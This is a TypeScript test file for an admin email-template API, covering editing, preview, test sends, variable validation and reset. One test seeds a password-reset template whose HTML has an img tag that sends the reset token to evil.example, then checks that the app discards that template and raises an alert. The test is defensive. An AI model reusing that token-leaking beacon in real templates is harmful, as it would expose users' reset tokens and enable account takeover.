import assert from 'node:assert/strict'
import { readdir, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { type Person, startApp, type TestApp } from '#test/harness/app.ts'
import { mailsTo } from '#test/world/mails.ts'
import { createWatch } from '../alerts/watch/watch.ts'

const all = '/v1/admin/email-templates'
const welcome = `${all}/welcome`
let t: TestApp
let root: Person
before(async () => {
  t = await startApp()
  root = await t.as('root')
})
after(() => t[Symbol.asyncDispose]())

test('200: a template is changed, tested with an email to the caller only, and reset', async () => {
  const { body } = await root.get(all)
  const builtIn = body.templates.find(({ name }: { name: string }) => name === 'welcome')
  assert.deepEqual([builtIn.isChanged, builtIn.variables], [false, ['name', 'url']])
  const parts = { subject: 'Ahoy {{name}}', html: '<b>{{name}}</b>', text: 'Ahoy at {{url}}' }
  const saved = await root.post(welcome, parts)
  assert.deepEqual([saved.status, saved.body.isChanged, saved.body.updatedBy], [200, true, root.uid])
  assert.equal((await root.get(welcome)).body.subject, 'Ahoy {{name}}')
  const shown = await root.post(`${welcome}/preview`, { html: '<i>{{name}}</i>' })
  const { html: preview, ...words } = shown.body
  assert.deepEqual(words, { subject: 'Ahoy Ada', text: 'Ahoy at http://posthorn.test' })
  assert.match(preview, /<h1[^>]*>Ahoy Ada<\/h1>\s*<i>Ada<\/i>/, 'in the layout in which it is sent')

  assert.deepEqual((await root.post('/v1/admin/email/test-welcome')).body, { to: root.email })
  assert.deepEqual((await root.post('/v1/admin/email/test-goodbye')).body, { to: root.email })
  await t.settle()
  const folder = join(t.folder, 'outbox')
  const texts = await Promise.all((await readdir(folder)).map((name) => readFile(join(folder, name), 'utf8')))
  assert.equal(texts.filter((text) => /^Subject: Ahoy root/m.test(text)).length, 1)

  const reset = await root.post(`${welcome}/reset`)
  assert.deepEqual([reset.body.isChanged, reset.body.subject], [false, builtIn.subject])
})

test('400: an unknown variable, and a template without its token, are rejected with their paths', async () => {
  const parts = { subject: 'Hi', html: '{{name}} {{planet}}', text: 'Hi' }
  const bad = await root.post(welcome, parts)
  assert.deepEqual([bad.status, bad.body.errors[0].path, bad.body.errors[0].code], [400, '/html', 'unknown_variable'])
  assert.equal((await root.post(`${welcome}/preview`, parts)).status, 400)
  const tokenless = await root.post(`${all}/verify-email`, { subject: 'Hi', html: 'Hi', text: 'Hi' })
  assert.equal(tokenless.body.errors[0].code, 'missing_variable')
  assert.equal((await root.get(`${all}/nothing`)).body.code, 'mail_template_not_found')
})

test('a stored template that would leak a token is ignored after an upgrade, and an alert reports it until it is reset', async () => {
  const html = '<p>{{token}}</p><img src="https://evil.example/{{token}}">'
  const old = { name: 'reset-password', subject: 'Old', text: '{{token}}', html, updatedAt: t.now() }
  await t.db.insertInto('mailTemplate').values(old).execute()
  await root.post('/v1/auth/request-password-reset', { email: root.email })
  await t.settle()
  const mail = (await mailsTo(t, root.email)).find(({ subject }) => /^(?:Reset|Old)/.test(subject))
  assert.equal(mail?.subject, 'Reset your password')
  assert.doesNotMatch(JSON.stringify(mail), /evil/)
  assert.equal((await root.get('/v1/admin/email-templates/reset-password')).body.isChanged, false)
  const listOpen = async () => {
    await createWatch(t.deps).tick()
    const { body } = await root.get('/v1/admin/alerts')
    return body.alerts.filter(
      (alert: { kind: string; closedAt: string | null }) =>
        alert.kind === 'mail_template_set_aside' && alert.closedAt === null,
    )
  }
  assert.deepEqual(
    (await listOpen()).map(({ subject }: { subject: string }) => subject),
    ['reset-password'],
  )
  await root.post('/v1/admin/email-templates/reset-password/reset')
  assert.deepEqual(await listOpen(), [])
})
